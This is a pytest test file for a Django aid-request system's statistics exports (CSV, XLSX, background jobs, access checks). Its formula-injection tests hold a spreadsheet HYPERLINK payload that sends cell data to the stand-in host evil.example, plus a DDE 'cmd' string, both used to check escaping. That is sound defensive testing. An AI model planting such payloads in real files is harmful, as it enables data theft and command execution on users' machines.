"""Exports: CSV and XLSX of every table, streamed when small, a Celery job when big; cells keep
their type and text never becomes a formula."""

from __future__ import annotations

import csv
import datetime
import io
import logging
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.models import Role
from aid_requests.models import RequestStatus
from audit.models import AuditEntry
from reports.models import ExportJob, ExportStatus
from reports.selectors.filters import Period
from reports.selectors.statistics import statistics
from reports.services.exports import export_job_create, export_job_run
from reports.services.rollups import rollups_refresh
from tests.factories import (
    AidRequestFactory,
    ApplicantUserFactory,
    CharityStaffFactory,
    OrganisationFactory,
    StaffUserFactory,
)

pytestmark = pytest.mark.django_db
YEAR = {"start": "2025-01", "end": "2025-12"}
URL = "/ministry/statistics/export/"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_aid_type_table_as_csv(client, world, official):
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    response = client.post(URL, {**YEAR, "kind": "aid_types", "file_format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="musaada-aid_types-20250101-20251231.csv"'
    )
    rows = read_csv(response)
    assert rows[0][:2] == ["Aid type", "Requests submitted"]
    by_type = {row[0]: row for row in rows[1:]}
    # needy: F, W, R, I submitted; F and R claimed; F closed; 2 payments of 150; W blocked,
    # 200.000 saved (F, closed after two paid periods, held W's first two months only).
    assert by_type["Needy families"] == [
        "Needy families",
        "4",
        "2",
        "1",
        "2",
        "300.000",
        "1",
        "200.000",
        "0",
    ]
    assert by_type["Student aid"] == [
        "Student aid",
        "1",
        "3",
        "0",
        "1",
        "200.000",
        "0",
        "0.000",
        "1",
    ]
    assert (
        AuditEntry.objects.filter(actor=official, action="reports.export_downloaded").count() == 1
    )


def test_month_table_as_xlsx_has_real_months_and_numbers(client, world, official):
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    response = client.post(URL, {**YEAR, "kind": "months", "file_format": "xlsx"})
    assert response.status_code == 200
    sheet = read_xlsx(response.content)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Month"
    assert len(rows) == 13  # a header and every month of the year
    february = rows[2]
    # A date, shown as a month (spreadsheets have no time zones: a naive value).
    assert february[0] == datetime.datetime(2025, 2, 1)  # noqa: DTZ001
    assert sheet["A3"].is_date
    assert sheet["A3"].number_format == "mm/yyyy"
    assert february[1:4] == (2, 1, 0)  # F and W submitted, F claimed, nothing closed
    assert Decimal(str(february[5])) == Decimal("150")
    assert sheet["F3"].data_type == "n"
    assert sheet["F3"].number_format == "#,##0.000"
    march = rows[3]
    assert march[3] == 1
    assert march[8] == 1


def test_organisation_table_has_no_submissions_and_is_right_to_left_in_arabic(
    client, world, official
):
    rollups_refresh(full=True)
    client.force_login(official)
    response = client.post(URL, {**YEAR, "kind": "organisations", "file_format": "xlsx"})
    sheet = read_xlsx(response.content)
    assert sheet.sheet_view.rightToLeft is True
    header = next(sheet.iter_rows(values_only=True))
    assert len(header) == 8
    assert "طلبات مقدمة" not in header
    assert "Requests submitted" not in header
    assert sheet["E2"].number_format == "#,##0.000"  # amount paid
    names = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    assert names == [world.alnoor.name_ar, world.alkhair.name_ar]  # most paid first


def test_the_list_behind_a_figure_exports_its_rows(client, world, official):
    client.force_login(official)
    client.cookies["django_language"] = "en"
    rows = read_csv(
        client.post(URL, {**YEAR, "kind": "requests", "basis": "paid", "file_format": "csv"})
    )
    assert rows[0][:2] == ["Date", "Reference"]
    # One row per payment: F twice, S once.
    assert sorted(r[1] for r in rows[1:]) == sorted(
        [world.requests["F"].reference] * 2 + [world.requests["S"].reference]
    )
    assert sorted(r[0] for r in rows[1:]) == ["2025-02-20", "2025-03-20", "2025-04-10"]
    response = client.post(
        URL, {**YEAR, "kind": "requests", "basis": "claimed", "file_format": "xlsx"}
    )
    sheet = read_xlsx(response.content)
    first = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(first) == 5  # P, F, S twice, R
    assert all(isinstance(r[0], datetime.datetime) for r in first)  # claimed at, a real time


def test_payments_and_blocked_lists_export(client, world, official):
    client.force_login(official)
    client.cookies["django_language"] = "en"
    payments = read_csv(client.post(URL, {**YEAR, "kind": "payments", "file_format": "csv"}))
    assert [r[6] for r in payments[1:]] == ["150.000", "150.000", "200.000"]
    assert [r[0] for r in payments[1:]] == ["2025-02-20", "2025-03-20", "2025-04-10"]
    response = client.post(
        URL,
        {**YEAR, "kind": "blocked", "file_format": "xlsx", "organisation": world.alkhair.pk},
    )
    sheet = read_xlsx(response.content)
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][0] == datetime.datetime(2025, 2, 16, 10, 0)  # noqa: DTZ001 - Kuwait time
    assert rows[1][1] == world.requests["W"].reference
    # F was closed after two paid periods: two of W's months overlap what it held
    assert (rows[1][5], Decimal(str(rows[1][6]))) == (2, Decimal("200"))


def test_headline_figures_export(client, world, official):
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    rows = read_csv(client.post(URL, {**YEAR, "kind": "headline", "file_format": "csv"}))
    figures = dict(rows[1:])
    h = statistics(
        Period(start=datetime.date(2025, 1, 1), end=datetime.date(2025, 12, 31))
    ).headline
    assert figures["Requests submitted"] == str(h.submitted) == "5"
    assert figures["of which open now"] == "1"
    assert figures["Households helped"] == "3"
    assert figures["Amount paid (KWD)"] == "500.000"
    assert figures["Claims released by the deadline"] == "1"


@pytest.mark.parametrize(
    ("kind", "first_header", "expected"),
    [
        ("overview_status", "Status", {"Open": 2, "Ineligible": 1, "Closed": 0}),
        ("overview_orgs", "Status", {"Active": 2, "Suspended": 0}),
    ],
)
def test_overview_tables_export(client, official, kind, first_header, expected):
    AidRequestFactory.create_batch(2)
    AidRequestFactory(status=RequestStatus.INELIGIBLE)
    OrganisationFactory.create_batch(2)
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    response = client.post(URL, {"kind": kind, "file_format": "xlsx"})
    assert response.status_code == 200
    sheet = read_xlsx(response.content)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == first_header
    found = dict(rows[1:])
    for label, count in expected.items():
        assert found[label] == count, label


def test_overview_by_aid_type_export(client, official):
    requests = AidRequestFactory.create_batch(3)
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    rows = read_csv(client.post(URL, {"kind": "overview_aid_types", "file_format": "csv"}))
    counts = {name: int(n) for name, n in rows[1:]}
    for request in requests:
        assert counts[request.aid_type.name_en] == 1


# --- text never becomes a formula ----------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_looks_like_a_formula_is_escaped_in_csv(client, world, official, start):
    world.alnoor.name_en = f"{start}cmd|' /C calc'!A0"
    world.alnoor.save(update_fields=["name_en"])
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    rows = read_csv(client.post(URL, {**YEAR, "kind": "organisations", "file_format": "csv"}))
    names = [r[0] for r in rows[1:]]
    assert f"'{start}cmd|' /C calc'!A0" in names
    # Numbers stay numbers (a negative number is never text here, and is not touched).
    assert all(not r[4].startswith("'") for r in rows[1:])


def test_a_formula_name_is_plain_text_in_xlsx(client, world, official):
    world.alnoor.name_en = EVIL
    world.alnoor.save(update_fields=["name_en"])
    rollups_refresh(full=True)
    client.force_login(official)
    client.cookies["django_language"] = "en"
    response = client.post(URL, {**YEAR, "kind": "organisations", "file_format": "xlsx"})
    sheet = read_xlsx(response.content)
    cell = sheet["A2"]
    assert cell.value == EVIL  # shown as typed…
    assert cell.data_type == "s"  # …but a string, never a formula
    assert "<f>" not in _sheet_xml(response.content)
    payments = client.post(
        URL, {**YEAR, "kind": "payments", "file_format": "xlsx", "organisation": world.alnoor.pk}
    )
    paid_by = read_xlsx(payments.content)["E2"]
    assert (paid_by.value, paid_by.data_type) == (EVIL, "s")


def _sheet_xml(content: bytes) -> str:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


# --- big exports ----------------------------------------------------------------------------


def test_an_unknown_export_is_a_400(client, official):
    client.force_login(official)
    assert client.post(URL, {"kind": "passwords", "file_format": "csv"}).status_code == 400


def test_big_export_runs_as_a_job_with_status_and_download(
    client, world, official, settings, django_capture_on_commit_callbacks
):
    settings.REPORTS_EXPORT_INLINE_LIMIT = 2
    client.force_login(official)
    client.cookies["django_language"] = "en"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(URL, {**YEAR, "kind": "payments", "file_format": "xlsx"})
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/ministry/statistics/exports/{job.pk}/"
    assert (job.status, job.row_count, job.progress) == (ExportStatus.DONE, 3, 100)
    assert job.file_path == f"exports/{job.pk}-payments.xlsx"
    assert job.parameters["start"] == "2025-01"

    status = client.get(response["Location"], headers={"HX-Request": "true"})
    html = status.content.decode()
    assert 'data-status="done"' in html
    assert "hx-trigger" not in html  # polling stops once the file is ready
    assert "kinds" not in status.context

    download = client.get(f"/ministry/statistics/exports/{job.pk}/download/")
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Paid on"
    assert len(rows) == 4
    audit = AuditEntry.objects.filter(action="reports.export_downloaded", actor=official)
    assert audit.count() == 1
    assert audit.get().object_id == str(job.pk)


def test_a_job_reports_its_progress_as_it_writes(
    official, settings, caplog, django_capture_on_commit_callbacks
):
    """Progress is recorded every REPORTS_EXPORT_PROGRESS_EVERY rows (1,000 by default)."""
    settings.REPORTS_EXPORT_PROGRESS_EVERY = 4
    AidRequestFactory.create_batch(10)
    caplog.set_level(logging.INFO, logger="reports.services.exports")
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_create(
            actor=official,
            kind="requests",
            file_format="csv",
            parameters={"basis": "current"},
        )
    job.refresh_from_db()
    assert (job.status, job.row_count, job.progress) == (ExportStatus.DONE, 10, 100)
    steps = [r.getMessage() for r in caplog.records if "rows (" in r.getMessage()]
    assert steps == [
        f"export job {job.pk}: 4 of 10 rows (40%)",
        f"export job {job.pk}: 8 of 10 rows (80%)",
    ]


def test_a_queued_job_page_polls_every_two_seconds(client, official):
    from django.utils import timezone

    job = ExportJob.objects.create(
        requested_by=official, kind="payments", file_format="csv", created_at=timezone.now()
    )
    client.force_login(official)
    html = client.get(f"/ministry/statistics/exports/{job.pk}/").content.decode()
    assert 'hx-trigger="every 2s"' in html
    assert client.get(f"/ministry/statistics/exports/{job.pk}/download/").status_code == 404


def test_another_users_export_is_404(
    client, world, official, settings, django_capture_on_commit_callbacks
):
    settings.REPORTS_EXPORT_INLINE_LIMIT = 0
    client.force_login(official)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(URL, {**YEAR, "kind": "payments", "file_format": "csv"})
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.DONE
    other = StaffUserFactory(role=Role.MINISTRY_ADMIN)
    client.force_login(other)
    assert client.get(f"/ministry/statistics/exports/{job.pk}/").status_code == 404
    assert client.get(f"/ministry/statistics/exports/{job.pk}/download/").status_code == 404
    assert not AuditEntry.objects.filter(action="reports.export_downloaded", actor=other).exists()


def test_a_failing_job_is_marked_failed_not_raised(official, django_capture_on_commit_callbacks):
    # A kind the task cannot build (as if the table were removed after the job was queued).
    job = ExportJob.objects.create(
        requested_by=official,
        kind="retired_table",
        file_format="csv",
        created_at=datetime.datetime.now(datetime.UTC),
    )
    export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert "retired_table" in job.error
    # A second delivery of the task does nothing to a finished job.
    assert export_job_run(job_id=job.pk).status == ExportStatus.FAILED


def test_job_task_runs_inline_without_redis(official, settings, django_capture_on_commit_callbacks):
    assert settings.CELERY_TASK_ALWAYS_EAGER is True
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_create(
            actor=official, kind="aid_types", file_format="csv", parameters=YEAR
        )
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    path = settings.MEDIA_ROOT / job.file_path
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM


# --- my exports -----------------------------------------------------------------------------


def _job(user, kind="payments"):
    return ExportJob.objects.create(
        requested_by=user,
        kind=kind,
        file_format="csv",
        created_at=datetime.datetime.now(datetime.UTC),
    )


def test_my_exports_lists_my_jobs_only(client, official):
    mine = [_job(official), _job(official, "blocked")]
    theirs = _job(StaffUserFactory(role=Role.MINISTRY_OFFICIAL))
    client.force_login(official)
    response = client.get("/ministry/statistics/exports/")
    assert response.status_code == 200
    assert [job.pk for job in response.context["jobs"]] == [mine[1].pk, mine[0].pk]
    html = response.content.decode()
    assert f'data-job="{theirs.pk}"' not in html
    assert f"/ministry/statistics/exports/{mine[0].pk}/" in html


def test_my_exports_for_others(client):
    url = "/ministry/statistics/exports/"
    assert client.get(url).status_code == 302  # anonymous: to sign in
    for user in (
        ApplicantUserFactory(),
        CharityStaffFactory(role=Role.MANAGER),
        CharityStaffFactory(role=Role.CASEWORKER),
    ):
        client.force_login(user)
        assert client.get(url).status_code == 403
    admin = StaffUserFactory(role=Role.MINISTRY_ADMIN)
    client.force_login(admin)
    assert client.post(url).status_code == 405
    assert list(client.get(url).context["jobs"]) == []
